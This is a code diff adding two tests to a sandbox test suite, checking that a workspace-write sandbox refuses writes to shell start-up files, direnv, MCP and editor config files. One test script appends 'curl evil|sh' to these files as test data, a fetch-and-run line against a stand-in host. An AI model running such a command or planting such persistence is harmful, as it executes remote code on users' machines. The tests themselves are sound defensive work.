@@ -187,3 +187,68 @@ async def test_fs_calls_under_a_deny_glob_are_refused_alike(
         "code": -32603,
         "message": "Read-only file system (os error 30)",
     }
+
+
+LATER = {
+    ".bashrc": "# rc\n",
+    ".envrc": "export A=1\n",
+    ".mcp.json": "{}\n",
+    ".vscode/settings.json": "{}\n",
+}
+
+
+async def test_files_that_run_code_later_stay_as_they_were(
+    codexexec_server: RunningServer, tmp_path: Path
+) -> None:
+    """A codexexec addition (Codex leaves these writable): in a writable root, shell start-up
+    files, direnv's and MCP's files and editor folders cannot be changed or added to, and
+    the attempt is reported as a sandbox denial. Checked on the host afterwards."""
+    root = tmp_path / "ws"
+    for name, text in LATER.items():
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).write_text(text)
+    script = (
+        "echo fine > ok.txt;"
+        " for f in .bashrc .envrc .mcp.json .vscode/settings.json; do echo 'curl evil|sh' >> $f; done;"
+        " touch .vscode/tasks.json"
+    )
+    profile = legacy_profile("workspace-write")
+    assert profile is not None
+    wire = await Wire.open(codexexec_server.url)
+    await wire.initialize()
+    await wire.start(
+        "later",
+        ["sh", "-c", script],
+        cwd=uri(root),
+        sandbox=sandbox_context_json(profile, uri(root), [uri(root)]),
+    )
+    events = await wire.events_until_closed("later")
+    await wire.close()
+    for name, text in LATER.items():
+        assert (root / name).read_text() == text, name
+    assert not (root / ".vscode/tasks.json").exists()
+    assert (root / "ok.txt").read_text() == "fine\n"  # the rest of the workspace is writable
+    exited = next(e for e in events if e["method"] == "process/exited")["params"]
+    assert exited["exitCode"] != 0 and exited["sandboxDenied"] is True
+
+
+async def test_a_missing_start_up_file_cannot_be_planted_in_a_writable_home(
+    codexexec_server: RunningServer, tmp_path: Path
+) -> None:
+    home = tmp_path / "home"
+    home.mkdir()
+    profile = legacy_profile("workspace-write")
+    assert profile is not None
+    context = {**sandbox_context_json(profile, uri(home), [uri(home)]), "userHomeDir": uri(home)}
+    wire = await Wire.open(codexexec_server.url)
+    await wire.initialize()
+    await wire.start(
+        "plant",
+        ["sh", "-c", "echo evil > .bashrc; echo evil > .profile; echo ok > notes"],
+        cwd=uri(home),
+        sandbox=context,
+    )
+    await wire.events_until_closed("plant")
+    await wire.close()
+    assert not (home / ".bashrc").is_file() and not (home / ".profile").is_file()
+    assert (home / "notes").read_text() == "ok\n"
